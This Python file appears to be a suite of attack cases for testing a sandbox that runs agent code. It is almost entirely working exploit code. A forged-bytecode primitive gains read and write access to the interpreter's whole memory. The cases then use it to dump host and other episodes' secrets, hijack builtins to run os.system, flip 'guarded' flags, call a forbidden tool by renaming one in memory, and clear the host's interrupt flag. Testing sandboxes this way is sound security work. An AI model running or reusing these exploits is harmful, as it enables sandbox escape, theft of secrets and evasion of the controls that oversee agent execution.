# Attacks with a hold on the whole memory of the interpreter, which pure Python can get: bytecode that loads a constant from
# past the end of its table, where a forged object lies. They show what the seal is worth when Python is lost. The code
# above the first heading comes before each of them.

import gc
import opcode
import os
import struct
import types

kept = []

def whole_memory():
    fake = struct.pack('<7I', 1 << 20, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0)
    pointer = struct.pack('<I', id(fake) + 16)
    consts = (None,)
    index = (id(pointer) - id(consts)) // 4 & 0xffffffff
    code = bytes([opcode.opmap['RESUME'], 0])
    for shift in (24, 16, 8):
        code += bytes([opcode.opmap['EXTENDED_ARG'], index >> shift & 255])
    code += bytes([opcode.opmap['LOAD_CONST'], index & 255, opcode.opmap['RETURN_VALUE'], 0])
    kept.extend([fake, pointer, consts])
    return types.FunctionType((lambda: 1).__code__.replace(co_consts=consts, co_code=code), {})()

memory = whole_memory()
heap_end = 30 << 20

def word(address):
    return int.from_bytes(memory[address:address + 4], 'little')

def set_word(address, value):
    memory[address:address + 4] = value.to_bytes(4, 'little')

def method_of(function):
    """Address of the C function behind a builtin, as an index of the function table."""
    return word(id(function) + 8) + 4

def show(start):
    at = memory.find(start, 1024, heap_end)
    while at >= 0:
        print(bytes(memory[at:at + 60]))
        at = memory.find(start, at + 1, heap_end)

#= secrets of the host in memory
show(b'FILE-SECRET-')
show(b'ENV-SECRET-')

#= secrets of other episodes in memory
show(b'PEER-SECRET-')
show(b'PAST-SECRET-')

#! method of a builtin replaced by os.system
honest = word(method_of(os.mkdir))
set_word(method_of(os.mkdir), word(method_of(os.system)))
os.mkdir(COMMAND)
set_word(method_of(os.mkdir), honest)

#= method of a builtin replaced by each function in turn
target = method_of(len)
for index in range(1, 14000, 13):
    set_word(target, index)
    try:
        len(COMMAND)
    except Exception:
        pass

#= method of a builtin replaced by rubbish
set_word(method_of(len), 0x7fffffff)
len('x')

#= memory past the end of the heap
print(bytes(memory[0x60000000:0x60001000])[:0])

#= interpreter overwritten with zeros
memory[1 << 20:8 << 20] = bytes(7 << 20)
print('still here')

#= interpreter overwritten with noise
import random
memory[5 << 20:9 << 20] = random.randbytes(4 << 20)
print('still here')

#= stack overwritten
for place in range(4 << 20, 7 << 20, 4096):
    set_word(place, 0xdeadbeef)
print('still here')

#= free lists of the allocator broken for the next episode
for place in range(12 << 20, heap_end, 64):
    if word(place) == 0:
        set_word(place, 0x41414141)
print('still here')

#= state of the kernel changed
for thing in gc.get_objects():
    if type(thing).__name__ in ('State', 'Tool', 'Seal'):
        try:
            thing.guarded = False
            thing.channel = os.open('/tmp/fake', os.O_RDWR | os.O_CREAT)
        except Exception as error:
            print(type(error).__name__)

#= name of a tool changed in memory
name = b'web_' + b'search'
at = memory.find(name, 1024, heap_end)
while at >= 0:
    memory[at:at + len(name)] = FORBIDDEN_TOOL.encode()
    at = memory.find(name, at + 1, heap_end)
web_search(query='x')

#= references to JavaScript objects forged
import js
for number in range(64):
    set_word(id(js) + 8, number)
    try:
        print(type(js.constructor))
    except Exception as error:
        print(type(error).__name__)

#= flag that lets the host interrupt searched and cleared
for place in range(1 << 20, 7 << 20, 4):
    if word(place) == 1:
        set_word(place, 0)
while True:
    pass

#= version string that a new interpreter would check
at = memory.find(b'3.14.2', 1024, heap_end)
while at >= 0:
    memory[at:at + 6] = b'9.99.9'
    at = memory.find(b'3.14.2', at + 1, heap_end)
print('still here')
